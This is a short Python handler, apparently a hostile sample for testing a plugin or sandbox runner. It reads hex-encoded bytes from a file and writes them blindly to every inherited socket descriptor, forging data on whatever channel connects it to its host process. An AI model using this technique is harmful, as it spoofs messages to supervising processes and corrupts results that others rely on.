"""Writes what it likes to the data channel; the input file says what, in hexadecimal digits."""

import os
import stat


class Handler:
    def execute(self, file_path):
        with open(file_path) as file:
            forged = bytes.fromhex(file.read())
        for descriptor in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    os.write(descriptor, forged)
            except OSError:
                pass
